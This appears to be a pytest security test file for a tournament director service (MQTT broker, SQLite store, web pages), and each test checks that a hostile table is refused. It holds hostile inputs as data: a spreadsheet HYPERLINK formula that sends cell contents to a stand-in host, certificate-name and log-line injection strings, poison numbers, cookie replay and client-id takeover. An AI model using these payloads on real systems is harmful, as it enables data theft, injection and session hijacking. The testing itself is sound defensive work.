"""No table can forge or break the tournament (issue 46, items 1-9): a table's account, the real
director and its real Mosquitto on a free loopback port, and the director's pages served for real.

Each test stages what a hostile or broken table can send and checks what the director stores,
refuses, holds and shows."""

import csv
import io
import json
import logging
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from companion.tournament import broker as brk
from companion.tournament import protocol
from companion.tournament.director import HELD_MAX, Director
from companion.tournament.pairing import Pairing
from companion.tournament.rounds import make_round
from companion.tournament.web import WebServer
from tests.test_tournament_network import EVENT, PREFIX, HallFixture, raw_client, wait_until

pytestmark = pytest.mark.skipif(
    shutil.which("mosquitto") is None and not brk.os.path.exists("/usr/sbin/mosquitto"),
    reason="Mosquitto is not installed (make deps installs it)",
)


@pytest.fixture
def hall(tmp_path):
    h = HallFixture(tmp_path)
    yield h
    h.close()


def account(hall, number):
    """A table account with no link running (the test speaks for the table)."""
    return hall.account(number)


def publish_all(client, messages):
    for topic, payload in messages:
        client.publish(topic, payload, qos=1).wait_for_publish(5)


def restart_director(hall):
    hall.director = Director(
        hall.store, EVENT, hall.url, hall.creds["username"], hall.creds["password"]
    )
    hall.director.start()


# -- 2: one poison message loses nothing else --------------------------------------------------


def test_a_number_sqlite_cannot_hold_is_refused_alone_and_the_rest_of_the_batch_is_stored(hall):
    """2^63 as a seq or a round, and 1e999 anywhere, used to pass the checks and fail in the
    store, rolling back the whole batch (up to 500 messages of every table). The director is
    stopped while they are sent, so its persistent session hands them over in one burst."""
    bad_creds, good_creds = account(hall, 3), account(hall, 4)
    hall.director.stop()
    events3, result3 = protocol.topic(PREFIX, 3, "events"), protocol.topic(PREFIX, 3, "result")
    poison = [
        (events3, b'{"game":"g3","seq":9223372036854775808,"record":{"kind":"press"}}'),
        (result3, b'{"game":"g3","round":9223372036854775808,"record":{"loser":"red"}}'),
        (events3, b'{"game":"g3","seq":2,"record":{"kind":"press","t":1e999}}'),
        (protocol.topic(PREFIX, 3, "state"), b'{"status":"ready","minutes":{"blue":1e999}}'),
    ]
    good = [
        (
            protocol.topic(PREFIX, 4, "events"),
            protocol.encode({"game": "g4", "seq": n, "record": {"kind": "press", "n": n}}),
        )
        for n in range(1, 41)
    ] + [(protocol.topic(PREFIX, 4, "state"), protocol.encode({"status": "running", "t": 3}))]
    bad = raw_client(hall.port, bad_creds["username"], bad_creds["password"], "table3")
    ok = raw_client(hall.port, good_creds["username"], good_creds["password"], "table4")
    try:
        publish_all(ok, good[:20])
        publish_all(bad, poison)
        publish_all(ok, good[20:])
    finally:
        for c in (bad, ok):
            c.disconnect()
            c.loop_stop()
    restart_director(hall)
    wait_until(lambda: len(hall.store.events(4, "g4")) == 40, what="table 4's 40 events")
    assert hall.director.drain()
    assert [e["n"] for e in hall.store.events(4, "g4")] == list(range(1, 41))
    assert hall.store.table(4)["state"] == {"status": "running", "t": 3}
    refused = hall.store.rejected()
    assert len(refused) == len(poison)
    reasons = " | ".join(r["reason"] for r in refused)
    assert "9223372036854775808 is out of range" in reasons
    assert "'1e999' is too large" in reasons
    assert hall.store.events(3, "g3") == [] and hall.store.results() == []


# -- 3: text made valid on the way in; no stored row breaks a page or a command ------------------


def pages_and_commands_answer(store, root, monkeypatch, capsys):
    """Every page answers 200 and every command prints text a UTF-8 terminal takes; returns
    what the commands printed."""
    from companion.cli import main
    from companion.tournament import director as director_module

    with (
        WebServer(store, director_password="hall-7") as web,
        httpx.Client(base_url=web.url, timeout=10) as c,
    ):
        for path in ("/", "/table/3", "/standings", "/tv", "/tv/panels", "/results.csv"):
            r = c.get(path)
            assert r.status_code == 200, (path, r.status_code, r.text[-300:])
            r.content.decode("utf-8")  # strict: every byte sent is UTF-8
    monkeypatch.setattr(director_module, "director_dir", lambda: root)
    out = ""
    for command in (["results"], ["results", "--csv"], ["results", "--json"], ["standings"]):
        assert main(["director", *command, "--event", EVENT]) == 0
        out += capsys.readouterr().out
    out.encode("utf-8")  # what a UTF-8 terminal or file takes
    return out


def test_a_lone_surrogate_is_made_valid_where_it_comes_in(hall, monkeypatch, capsys):
    creds = account(hall, 3)
    c = raw_client(hall.port, creds["username"], creds["password"], "table3")
    state = b'{"status":"running","players":{"blue":"Ad\\ud800a","red":"Bob"},"t":1}'
    record = (
        b'{"game":"g3","record":{"players":{"blue":"Ad\\ud800a","red":"B\\udfffob"},'
        b'"loser":"red","minutes":{"blue":3,"red":0}}}'
    )
    board = b'{"game":"g3","board":"11/11/11/11/11/4P\\ud800T4/11/11/11/11/11","trusted":false}'
    try:
        publish_all(
            c,
            [
                (protocol.topic(PREFIX, 3, "state"), state),
                (protocol.topic(PREFIX, 3, "result"), record),
                (protocol.topic(PREFIX, 3, "board"), board),
            ],
        )
    finally:
        c.disconnect()
        c.loop_stop()
    wait_until(lambda: hall.store.results() and hall.store.table(3)["board"], what="all three")
    assert hall.director.drain()
    table = hall.store.table(3)
    assert table["state"]["players"]["blue"] == "Ad\ufffda"
    assert hall.store.results()[0]["players"] == {"blue": "Ad\ufffda", "red": "B\ufffdob"}
    assert "\ufffd" in table["board"]["board"]
    out = pages_and_commands_answer(hall.store, hall.accounts.directory, monkeypatch, capsys)
    assert "Ad\ufffda" in out


def test_no_stored_row_makes_a_page_or_a_command_fail(hall, monkeypatch, capsys):
    """A store written before the director cleaned what comes in keeps its lone surrogates
    (JSON text escapes them): they are made valid as they are read."""
    path = hall.store.path
    con = sqlite3.connect(path)
    bad = '{"players":{"blue":"Ad\\ud800a","red":"Bob"},"loser":"red"}'
    with con:
        con.execute(
            "INSERT INTO tables(table_no, state, last_seen) VALUES (3, ?, 1.0)",
            ('{"status":"running","players":{"blue":"Ad\\ud800a","red":"Bob"}}',),
        )
        con.execute(
            "INSERT INTO results(table_no, game, round, record, received) VALUES (3,'g3',NULL,?,1)",
            (bad,),
        )
        con.execute(
            "INSERT INTO events(table_no, game, seq, record, received) VALUES (3,'g3',1,?,1)",
            ('{"kind":"words","words":["\\udc00"]}',),
        )
        con.execute("UPDATE tables SET game = 'g3' WHERE table_no = 3")
    con.close()
    out = pages_and_commands_answer(hall.store, hall.accounts.directory, monkeypatch, capsys)
    assert "Ad\ufffda" in out


# -- 6: no formula reaches a spreadsheet -------------------------------------------------------


def test_player_names_go_out_as_text_never_as_spreadsheet_formulas(hall, monkeypatch, capsys):
    from companion.cli import main
    from companion.tournament import director as director_module

    creds = account(hall, 3)
    names = {"blue": '=HYPERLINK("http://evil.example/?"&A1,"prize")', "red": "@SUM(1+1)*cmd"}
    c = raw_client(hall.port, creds["username"], creds["password"], "table3")
    try:
        record = {"players": names, "loser": "red", "how": "-2+3"}
        publish_all(
            c,
            [
                (
                    protocol.topic(PREFIX, 3, "result"),
                    protocol.encode({"game": "g3", "record": record}),
                )
            ],
        )
    finally:
        c.disconnect()
        c.loop_stop()
    wait_until(lambda: hall.store.results(), what="the result")
    with (
        WebServer(hall.store, director_password="hall-7") as web,
        httpx.Client(base_url=web.url, timeout=10) as http,
    ):
        page_csv = http.get("/results.csv").text
    monkeypatch.setattr(director_module, "director_dir", lambda: hall.accounts.directory)
    assert main(["director", "results", "--csv", "--event", EVENT]) == 0
    cli_csv = capsys.readouterr().out
    for text in (page_csv, cli_csv):
        rows = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + names["blue"] in cells and "'" + names["red"] in cells
        formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert formulas == []


# -- 8: bad addresses and names ----------------------------------------------------------------


@pytest.mark.parametrize(
    "path", ["/table/9223372036854775808", "/table/0", "/table/1000", "/table/99999999999999999999"]
)
def test_a_table_number_out_of_range_is_404(hall, path):
    with (
        WebServer(hall.store, director_password="hall-7") as web,
        httpx.Client(base_url=web.url, timeout=10) as http,
    ):
        assert http.get(path).status_code == 404
        assert http.get(path + "/qr.png").status_code == 404
        big = path.rsplit("/", 1)[1]
        assert http.get(f"/events?table={big}").status_code == 400


@pytest.mark.parametrize(
    "name",
    ["evil.example,DNS:bank.example", "host\nsubjectAltName=DNS:x", "a b", "*.hall", "::1%a,b"],
)
def test_director_ca_refuses_a_name_that_is_no_host_name(tmp_path, monkeypatch, capsys, name):
    from companion.cli import main
    from companion.tournament import director as director_module

    monkeypatch.setattr(director_module, "director_dir", lambda: tmp_path / "director")
    assert main(["director", "ca", "--name", "10.42.0.1", "--name", name]) == 2
    err = capsys.readouterr().err
    assert repr(name) in err and "accepted an address" in err
    assert not (tmp_path / "director" / "tls").exists()  # nothing written


@pytest.mark.parametrize("days", ["0", "-5", "99999999999"])
def test_director_ca_days_out_of_range_are_named(tmp_path, monkeypatch, capsys, days):
    """``director ca --days 0`` passed openssl's own words through ('req: Non-positive
    number "0" for option -days; req: Use -help for summary'); now the value and the
    accepted range are said, and nothing is written."""
    from companion.cli import main
    from companion.tournament import director as director_module

    monkeypatch.setattr(director_module, "director_dir", lambda: tmp_path / "director")
    assert main(["director", "ca", "--name", "10.42.0.1", "--days", days]) == 2
    err = capsys.readouterr().err
    assert f"--days {days}: accepted a whole number of days, 1 to 3650" in err
    assert "openssl" not in err
    assert not (tmp_path / "director" / "tls").exists()


def test_director_ca_takes_host_names_and_addresses(tmp_path):
    if shutil.which("openssl") is None:
        pytest.skip("openssl is not installed")
    files = brk.make_hall_ca(tmp_path / "tls", ["director.local", "10.42.0.1", "fd00::1", "hall-7"])
    ext = (tmp_path / "tls" / "broker.ext").read_text().splitlines()
    assert ext[0] == "subjectAltName=DNS:director.local,IP:10.42.0.1,IP:fd00::1,DNS:hall-7"
    assert files.cert.exists()


# -- 9: headers --------------------------------------------------------------------------------


def test_every_answer_carries_the_security_headers(hall):
    with (
        WebServer(hall.store, director_password="hall-7") as web,
        httpx.Client(base_url=web.url, timeout=10) as http,
    ):
        for path in ("/", "/standings", "/login", "/results.csv", "/static/app.css", "/table/5"):
            r = http.get(path)
            csp = dict(
                (part.split() + [""])[:2]
                for part in r.headers["content-security-policy"].split(";")
            )
            assert csp["default-src"] == "'self'" and csp["script-src"] == "'self'", path
            assert csp["frame-ancestors"] == "'none'", path
            if r.headers["content-type"].startswith("text/html"):
                # the policy runs no inline script: every script of the pages is a file
                assert re.findall(r"<script(?![^>]*\bsrc=)", r.text) == [], path
            assert r.headers.get("x-content-type-options") == "nosniff", path
            assert r.headers.get("referrer-policy") == "no-referrer", path
            assert r.headers.get("x-frame-options") == "DENY", path


# -- 1: a result counts only when it matches the set-up its table was given --------------------


def post_results(hall, number, payloads):
    creds = account(hall, number)
    c = raw_client(hall.port, creds["username"], creds["password"], f"table{number}")
    try:
        publish_all(
            c, [(protocol.topic(PREFIX, number, "result"), protocol.encode(p)) for p in payloads]
        )
    finally:
        c.disconnect()
        c.loop_stop()


def forged(game, blue, red, loser="red", round_no=None, mode="iago"):
    record = {"mode": mode, "players": {"blue": blue, "red": red}, "loser": loser}
    record |= {"minutes": {"blue": 5, "red": 0}, "round": round_no}
    return {"game": game, "round": round_no, "record": record}


def test_a_result_for_a_game_never_set_up_is_held_and_counts_once_accepted(
    hall, monkeypatch, capsys
):
    """No round published, a made-up player: two posts used to put "Mallory" first."""
    from companion.cli import main
    from companion.tournament import director as director_module

    post_results(hall, 3, [forged("m1", "Mallory", "Ada"), forged("m2", "Mallory", "Bob")])
    wait_until(lambda: len(hall.store.results()) == 2, what="both results stored")
    assert hall.store.standings() == []
    assert all(r["held"] == "no round: the table had no set-up" for r in hall.store.results())
    with (
        WebServer(hall.store, director_password="hall-7") as web,
        httpx.Client(base_url=web.url, timeout=10) as http,
    ):
        page = http.get("/standings").text
    held = page.split('<h2 id="held">Held: not in a set-up</h2>')[1].split('id="results"')[0]
    assert held.count("held: not in a set-up (no round: the table had no set-up)") == 2
    assert held.count('<td class="blue-text">Mallory</td>') == 2
    assert 'class="standings"' not in page  # nobody ranks on a held result
    monkeypatch.setattr(director_module, "director_dir", lambda: hall.accounts.directory)
    argv = ["director", "correct", "3", "m1", "--accept", "--reason", "a friendly game"]
    assert main([*argv, "--who", "Tess", "--event", EVENT]) == 0
    capsys.readouterr()
    standings = hall.store.standings()
    assert [(s["player"], s["wins"]) for s in standings] == [("Mallory", 1), ("Ada", 0)]
    assert main(["director", "results", "--event", EVENT]) == 0
    out = capsys.readouterr().out
    assert "HELD: not in a set-up (no round: the table had no set-up)" in out  # m2 still held
    # and on the pages: the director accepts m2 with the form
    with (
        WebServer(hall.store, director_password="hall-7") as web,
        httpx.Client(base_url=web.url, timeout=10) as http,
    ):
        token = re.search(r'name="csrf" value="([^"]+)"', http.get("/login").text)[1]
        login = {"csrf": token, "secret": "hall-7", "role": "director", "next": "/"}
        assert http.post("/login", data=login).status_code == 303
        token = re.search(r'name="csrf" value="([^"]+)"', http.get("/standings").text)[1]
        form = {"csrf": token, "result": "3:m2", "change": "accept"}
        r = http.post("/corrections", data=form | {"reason": "friendly", "who": "Tess"})
        assert r.status_code == 303
        page = http.get("/standings").text
    assert 'id="held"' not in page and "accepted: counted" in page
    assert [(s["player"], s["wins"]) for s in hall.store.standings()][0] == ("Mallory", 2)


def test_within_a_round_only_the_set_up_game_counts(hall):
    """Round 1 set table 3 to Ada v Bob: the table's own result counts once; 200 more posts,
    other players, another game, another table's result are all held."""
    setups = make_round(hall.store, 1, [Pairing("Ada", "Bob", 3), Pairing("Cy", "Di", 5)])
    hall.director.publish_round(1, setups)
    blue, red = setups[3]["blue"], setups[3]["red"]
    posts = [forged("g1", red, blue, round_no=1)]  # colours swapped: drawn by lot at the table
    posts += [
        forged("mal", "Mallory", red, round_no=1),
        forged("iota", blue, red, round_no=1, mode="iota"),
        forged("r2", blue, red, round_no=2),
    ]
    posts += [forged(f"again{n}", blue, red, round_no=1) for n in range(200)]
    post_results(hall, 3, posts)
    post_results(hall, 4, [forged("t4", "Cy", "Di", round_no=1)])
    # a table keeps at most HELD_MAX held results waiting: the rest of its flood is refused
    stored = 1 + HELD_MAX + 1
    wait_until(lambda: len(hall.store.results()) == stored, what="the posts stored")
    wait_until(
        lambda: hall.director.stats.rejected >= len(posts) - 1 - HELD_MAX, what="the refusals"
    )
    assert len(hall.store.results()) == stored
    assert (
        "held results waiting for the director (at most 10" in hall.store.rejected(1)[0]["reason"]
    )
    counted = [r for r in hall.store.results() if not r["held"]]
    assert [(r["table"], r["game"]) for r in counted] == [(3, "g1")]
    why = {r["game"]: r["held"] for r in hall.store.results()}
    assert why["again6"] == "round 1's set-up at this table was played already (game g1)"
    assert why["mal"].startswith("players Mallory v ")
    assert why["iota"] == "game iota; round 1's set-up is iago"
    assert why["r2"] == "round 2 has no set-up for this table"
    assert why["t4"] == "round 1 has no set-up for this table"
    standings = {s["player"]: (s["played"], s["wins"]) for s in hall.store.standings()}
    assert standings == {red: (1, 1), blue: (1, 0), "Cy": (0, 0), "Di": (0, 0)}  # no Mallory
    from companion.tournament.web import views

    assert views.reported(1, setups, hall.store.results())["reported"] == 1
    # the director deals with one held result: the table's next resend is stored (held)
    hall.store.add_correction(3, "mal", {"void": True}, "not a game of ours", "TD Eve", 1.0)
    post_results(hall, 3, [forged("again150", blue, red, round_no=1)])
    wait_until(lambda: len(hall.store.results()) == stored + 1, what="the resend stored")


# -- 7: logout ends the session ----------------------------------------------------------------


def test_a_cookie_copied_before_logout_changes_nothing_after_it(hall):
    post_results(hall, 3, [forged("g3", "Ada", "Bob")])
    wait_until(lambda: hall.store.results(), what="the result")
    with WebServer(hall.store, director_password="hall-7") as web:
        with httpx.Client(base_url=web.url, timeout=10) as director:
            token = re.search(r'name="csrf" value="([^"]+)"', director.get("/login").text)[1]
            r = director.post(
                "/login",
                data={"csrf": token, "secret": "hall-7", "role": "director", "next": "/"},
            )
            assert r.status_code == 303
            page = director.get("/standings").text
            token = re.search(r'name="csrf" value="([^"]+)"', page)[1]
            copied = dict(director.cookies)
            assert director.post("/logout", data={"csrf": token}).status_code == 303
        correction = {
            "csrf": token,
            "result": "3:g3",
            "change": "void",
            "reason": "replayed cookie",
            "who": "Mallory",
        }
        with httpx.Client(base_url=web.url, timeout=10, cookies=copied) as thief:
            r = thief.post("/corrections", data=correction)
            assert r.status_code == 403
            assert "log in first" in r.text
            assert "log out" not in thief.get("/standings").text  # no director's session
    assert hall.store.corrections() == []


# -- 5: the director restarts after kill -9 --------------------------------------------------


def start_director(root, broker_port):
    env = os.environ | {
        "COMPANION_DATA_DIR": str(root / "data"),
        "COMPANION_CONFIG_DIR": str(root / "config"),
    }
    cmd = [sys.executable, "-m", "companion", "director", "--event", EVENT]
    cmd += ["--broker-port", str(broker_port), "--listen", "127.0.0.1"]
    return subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def wait_running(root, proc):
    running = root / "data" / "director" / "running.json"

    def ready():
        assert proc.poll() is None, proc.communicate()[1]
        try:
            return json.loads(running.read_text())["pid"] == proc.pid
        except (OSError, ValueError, KeyError):
            return False

    wait_until(ready, timeout=60, what="the director running")


def test_the_director_takes_over_its_own_broker_after_kill_9(tmp_path):
    from companion.tournament.mqtt import BrokerURL, check_login

    port = brk.free_port()
    accounts = brk.Accounts(tmp_path / "data" / "director")
    first = start_director(tmp_path, port)
    second = None
    try:
        wait_running(tmp_path, first)
        left = brk.running_broker(accounts)
        assert left is not None
        first.kill()  # kill -9: no chance to stop its broker
        first.communicate()
        assert brk.port_in_use(port) and brk.running_broker(accounts) == left  # it survived
        second = start_director(tmp_path, port)
        wait_running(tmp_path, second)
        now = brk.running_broker(accounts)
        assert now is not None and now != left
        # the restarted director works: a table's result is stored
        creds = accounts.add_tables([3], EVENT)[3]
        assert brk.reload_running(accounts)
        url = BrokerURL("127.0.0.1", port)
        check_login(url, creds["username"], creds["password"])
        c = raw_client(port, creds["username"], creds["password"], "table3")
        publish_all(
            c,
            [(protocol.topic(PREFIX, 3, "result"), protocol.encode(forged("g3", "Ada", "Bob")))],
        )
        c.disconnect()
        c.loop_stop()
        from companion.tournament.store import Store

        with Store(tmp_path / "data" / "director" / f"{EVENT}.sqlite") as store:
            wait_until(lambda: store.results(), 30, "the result stored by the new director")
    finally:
        said = ""
        for proc in (first, second):
            if proc is not None and proc.poll() is None:
                proc.send_signal(signal.SIGTERM)
                try:
                    said += proc.communicate(timeout=60)[1]
                except subprocess.TimeoutExpired:
                    proc.kill()
                    said += proc.communicate()[1]
        left_over = brk.running_broker(accounts)
        if left_over is not None:
            os.kill(left_over, signal.SIGKILL)
    assert second.returncode == 0, said
    assert f"its own broker (pid {left}) was left running by a director that did not stop" in said
    assert not brk.port_in_use(port)  # a director stopped cleanly stops its broker


# -- 4: each account only its own client id ----------------------------------------------------


def test_a_table_account_cannot_take_the_directors_session(hall, caplog):
    """With the director's client id a table's account used to knock the director off (13
    times in 15 s), and, while the director was down, wipe its queued messages."""
    caplog.set_level(logging.INFO, logger="companion.tournament")
    intruder, honest = account(hall, 3), account(hall, 5)
    ids = [f"companion-director-{EVENT}", "director", "director-commands"]
    for client_id in ids:
        c = raw_client(hall.port, intruder["username"], intruder["password"], client_id)
        c.disconnect()
        c.loop_stop()
    assert hall.director.connected.is_set()
    assert "director: disconnected" not in caplog.text
    # while the director is down, the broker queues a table's result for its session
    hall.director.stop()
    post_results(hall, 5, [forged("g5", "Ada", "Bob")])
    for client_id in ids:  # a clean session under the director's id would wipe that queue
        c = raw_client(hall.port, intruder["username"], intruder["password"], client_id)
        c.disconnect()
        c.loop_stop()
    restart_director(hall)
    wait_until(lambda: hall.store.results(), what="the result queued while the director was down")
    assert [r["game"] for r in hall.store.results()] == ["g5"]
    assert honest  # table 5 used its own account


# -- 9: each table account's rate is limited at the director ----------------------------------


def test_a_table_flooding_the_director_is_limited_and_the_others_are_not(hall):
    """The director's bucket for each table account: ``burst`` messages at once, then ``rate``
    a second (the clock is frozen here: no refill). What is dropped is said in ``rejected``."""
    hall.director.stop()
    hall.director = Director(
        hall.store,
        EVENT,
        hall.url,
        hall.creds["username"],
        hall.creds["password"],
        burst=20,
        monotonic=lambda: 1000.0,
    )
    hall.director.start()
    flood, calm = account(hall, 3), account(hall, 4)

    def events(table, game, n):
        return [
            (
                protocol.topic(PREFIX, table, "events"),
                protocol.encode({"game": game, "seq": seq, "record": {"kind": "press"}}),
            )
            for seq in range(1, n + 1)
        ]

    a = raw_client(hall.port, flood["username"], flood["password"], "table3")
    b = raw_client(hall.port, calm["username"], calm["password"], "table4")
    try:
        publish_all(a, events(3, "g3", 100))
        publish_all(b, events(4, "g4", 10))
    finally:
        for c in (a, b):
            c.disconnect()
            c.loop_stop()
    wait_until(lambda: len(hall.store.events(4, "g4")) == 10, what="the calm table's events")
    hall.director.stop()  # says every drop counted so far
    assert len(hall.store.events(3, "g3")) == 20
    said = [r for r in hall.store.rejected() if "over its rate" in r["reason"]]
    assert said and all(r["topic"].startswith(f"{PREFIX}tables/3/") for r in said)
    dropped = sum(int(re.search(r"(\d+) messages dropped", r["reason"])[1]) for r in said)
    assert dropped == 80
    assert "table 3 is over its rate (100 messages a second, bursts of 20)" in said[0]["reason"]
    restart_director(hall)  # the fixture stops it


def test_the_rate_limit_refills_at_its_rate():
    from companion.tournament.director import RateLimit

    now = [0.0]
    limit = RateLimit(rate=2.0, burst=3, monotonic=lambda: now[0])
    assert [limit.take(7) for _ in range(4)] == [True, True, True, False]
    assert limit.take(8)  # every table has its own bucket
    now[0] = 0.5  # one message's worth at 2 a second
    assert [limit.take(7) for _ in range(2)] == [True, False]
    now[0] = 100.0  # never more than the burst
    assert [limit.take(7) for _ in range(4)] == [True, True, True, False]
    assert limit.dropped() == {7: 3} and limit.dropped() == {}


@given(
    st.one_of(st.text(max_size=60), st.from_regex(r"tables/[0-9]{0,4}/[a-z]{0,7}", fullmatch=True))
)
def test_the_quick_table_number_of_a_topic_never_fails_and_agrees_with_the_parser(tail):
    name = PREFIX + tail
    got = protocol.table_of(PREFIX, name)
    try:
        table, _ = protocol.parse_topic(PREFIX, name)
    except protocol.ProtocolError:
        assert got is None or 1 <= got <= 999
    else:
        assert got == table


def test_a_flood_of_new_sessions_keeps_a_logged_in_directors():
    from companion.tournament.web.app import Sessions

    now = [0.0]
    sessions = Sessions(lambda: now[0], idle_seconds=100.0, most=50)
    sid, data = sessions.new()
    data["director_until"] = 1e9
    for i in range(500):
        now[0] = 1 + i / 100
        sessions.new()
    assert len(sessions) <= 50 and sessions.get(sid) is data
    now[0] = 200.0  # unused for longer than idle_seconds: gone
    assert sessions.get(sid) is None
    sessions.end(sid)  # ending what is gone is no error


@given(st.text(max_size=80))
def test_a_certificate_name_is_a_host_name_or_an_address_or_refused(name):
    try:
        got = brk.check_host_name(name)
    except brk.BrokerError as exc:
        assert repr(name) in str(exc)
    else:
        assert got == name
        assert re.fullmatch(r"[A-Za-z0-9.-]+", name) or ("%" not in name and brk._is_ip(name))


def test_a_name_with_a_line_break_cannot_forge_a_line_of_the_directors_log(hall, caplog):
    caplog.set_level(logging.INFO, logger="companion.tournament")
    setups = make_round(hall.store, 1, [Pairing("Ada", "Bob", 3)], colours="fixed")
    hall.director.publish_round(1, setups)
    forged_line = "2026-12-07 18:00:00,000 INFO director: table 2 result stored"
    post_results(hall, 3, [forged("g1", f"Ada\n{forged_line}\u2028x", "Bob", round_no=1)])
    wait_until(lambda: hall.store.results(), what="the held result")
    held = [r.getMessage() for r in caplog.records if "held" in r.getMessage()]
    assert held and all("\n" not in m and "\u2028" not in m for m in held)
    assert "Ada\\n2026-12-07" in held[0]
    assert not any(line.startswith(forged_line) for line in caplog.text.splitlines())


def test_a_damaged_row_of_the_store_is_named_never_a_traceback(hall, monkeypatch, capsys, caplog):
    """A store edited by hand (a result that is not JSON, a set-up that is a list, a state
    that is a string): each command and page says which row is damaged; the running director
    goes on."""
    from companion.cli import main
    from companion.tournament import director as director_module

    setups = make_round(hall.store, 1, [Pairing("Ada", "Bob", 3)], colours="fixed")
    hall.director.publish_round(1, setups)
    post_results(hall, 3, [forged("g1", "Ada", "Bob", round_no=1)])
    wait_until(lambda: hall.store.results(), what="the result")
    monkeypatch.setattr(director_module, "director_dir", lambda: hall.accounts.directory)
    con = sqlite3.connect(hall.store.path)
    con.execute("UPDATE tables SET state = '\"x\"'")
    con.commit()
    assert hall.store.tables()[0]["state"]["fault"].startswith("the store's tables row 3: state")
    con.execute("UPDATE results SET record = 'not json'")
    con.commit()
    for command in (["results"], ["results", "--csv"], ["standings"]):
        assert main(["director", *command, "--event", EVENT]) == 2
        err = capsys.readouterr().err
        assert "results row (table 3, game g1): record is damaged: not JSON" in err, err
    with (
        WebServer(hall.store, director_password="hall-7") as web,
        httpx.Client(base_url=web.url, timeout=10) as c,
    ):
        r = c.get("/standings")
        assert r.status_code == 503 and "results row (table 3, game g1)" in r.text
    con.execute("UPDATE setups SET setup = '[1,2]'")
    con.commit()
    con.close()
    with (
        WebServer(hall.store, director_password="hall-7") as web,
        httpx.Client(base_url=web.url, timeout=10) as c,
    ):
        r = c.get("/")
        assert r.status_code == 503 and "setups row (round 1, table 3)" in r.text
    # the director, on (re)connecting, says the set-up row and goes on
    caplog.set_level(logging.ERROR, logger="companion.tournament")
    assert hall.director.republish_round() == 0
    assert "setups row (round 1, table 3): setup is damaged: a JSON list" in caplog.text


def test_a_full_disk_is_said_in_one_line_and_nothing_is_acked(tmp_path, caplog, monkeypatch):
    """The store cannot commit (the disk is full): the director says so in one line, with the
    store's file, acks nothing and goes on (the tables send again)."""
    from companion.tournament.mqtt import BrokerURL
    from companion.tournament.store import Store

    store = Store(tmp_path / "ev.sqlite", durable=False)
    d = Director(store, EVENT, BrokerURL("127.0.0.1", 1), "director", "x")
    acks = []
    monkeypatch.setattr(d, "_ack", lambda table, payload: acks.append(payload))

    def full():
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(store, "transaction", full)
    caplog.set_level(logging.ERROR, logger="companion.tournament")
    payload = protocol.encode(forged("g1", "Ada", "Bob"))
    d._queue.put((protocol.topic(PREFIX, 3, "result"), payload, 1.0))
    d._queue.put(None)
    d._work()
    (record,) = caplog.records
    assert record.exc_info is None and "database or disk is full" in record.getMessage()
    assert str(store.path) in record.getMessage() and acks == []
    store.close()


def test_a_result_sent_again_with_other_contents_is_said_and_the_first_kept(hall, caplog):
    """A table's result sent a second time under the same game id with other contents (the
    winner changed) was acked and dropped without a word: the director never knew a second
    version existed. The first copy still stands (and is acked, so the table stops), and the
    other is said in the log and listed among the refused messages."""
    creds = account(hall, 3)
    topic = protocol.topic(PREFIX, 3, "result")
    first = {"game": "g9", "round": 1, "record": {"players": ["Ada", "Bob"], "loser": "red"}}
    other = {"game": "g9", "round": 1, "record": {"players": ["Ada", "Bob"], "loser": "blue"}}
    c = raw_client(hall.port, creds["username"], creds["password"], "table3")
    try:
        publish_all(c, [(topic, protocol.encode(first))])
        wait_until(lambda: hall.store.results(), what="the first copy stored")
        with caplog.at_level(logging.WARNING, logger="companion.tournament"):
            publish_all(c, [(topic, protocol.encode(first)), (topic, protocol.encode(other))])
            wait_until(lambda: hall.store.rejected(), what="the other copy said")
    finally:
        c.disconnect()
        c.loop_stop()
    assert hall.director.drain()
    (res,) = hall.store.results()
    assert res["loser"] == "red"
    (refused,) = hall.store.rejected()  # the identical copy is a plain duplicate
    assert "result g9 sent again with other contents" in refused["reason"]
    assert "sent again with other contents" in caplog.text
